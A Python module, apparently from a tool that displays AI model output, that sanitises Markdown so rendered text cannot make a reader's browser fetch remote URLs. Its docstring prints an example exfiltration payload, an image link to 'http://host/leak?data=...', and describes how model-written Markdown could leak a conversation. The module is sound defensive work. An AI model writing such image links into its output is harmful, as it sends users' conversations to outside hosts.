"""Markdown that cannot make the reader's browser fetch anything.

Everything a model writes, an imported run carries or sandbox code prints is attacker-written. Drawn as
Markdown (on the page, in widget labels, in the Markdown export), ``![x](http://host/leak?data=...)``
would make every reader's browser request that URL and so send the conversation out. ``safe_markdown``
turns every image outside code into a plain link (which the browser does not fetch until clicked), keeps
only images that are ``data:`` URLs (they carry their bytes and fetch nothing), and escapes raw HTML.
Code blocks and code spans are left exactly as written: Markdown draws them as text.

The studio draws a run's own artifacts with ``st.image`` from the run's folder, never through Markdown.
"""

from __future__ import annotations

import re

# An inline image whose target is a data: URL of an image type; everything else that starts with "![" is
# demoted to a link (inline, reference and shortcut forms alike, since they all start with "![").
_DATA_IMAGE = re.compile(r"!\[[^\]\n]*\]\(\s*<?data:image/[a-zA-Z0-9.+-]+(;[a-zA-Z0-9=.+-]+)*,[A-Za-z0-9+/=%\s]*>?\s*\)")
_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})")


def safe_markdown(text: str) -> str:
    """``text`` with images outside code turned into links (``data:`` images kept) and raw HTML escaped."""
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        opened = _FENCE_OPEN.match(line)
        if fence is None and opened:
            out.append(_prose("".join(prose)))
            prose = []
            fence = opened.group(1)
            out.append(line)
        elif fence is not None:
            out.append(line)
            closing = line.strip()
            if closing.startswith(fence[0] * len(fence)) and not closing.strip(fence[0]):
                fence = None
        else:
            prose.append(line)
    out.append(_prose("".join(prose)))
    return "".join(out)


def _prose(text: str) -> str:
    """Outside fenced blocks: leave code spans alone, neutralise the rest."""
    out: list[str] = []
    i = 0
    while i < len(text):
        tick = text.find("`", i)
        if tick < 0:
            out.append(_neutralise(text[i:]))
            break
        run = len(text[tick:]) - len(text[tick:].lstrip("`"))
        closer = re.compile(rf"(?<!`)`{{{run}}}(?!`)").search(text, tick + run)
        if closer is None:  # an unmatched run of backticks is plain text
            out.append(_neutralise(text[i:tick + run]))
            i = tick + run
            continue
        out.append(_neutralise(text[i:tick]))
        out.append(text[tick:closer.end()])
        i = closer.end()
    return "".join(out)


def _neutralise(text: str) -> str:
    kept: list[str] = []

    def keep(match: re.Match[str]) -> str:
        kept.append(match.group(0))
        return f"\x00{len(kept) - 1}\x00"

    text = _DATA_IMAGE.sub(keep, text.replace("\x00", ""))
    text = text.replace("<", "&lt;").replace("![", "[")
    return re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m.group(1))], text)


def code_block(text: str, language: str = "") -> str:
    """A fenced block that ``text`` cannot close early: the fence is longer than any backtick run in it."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"
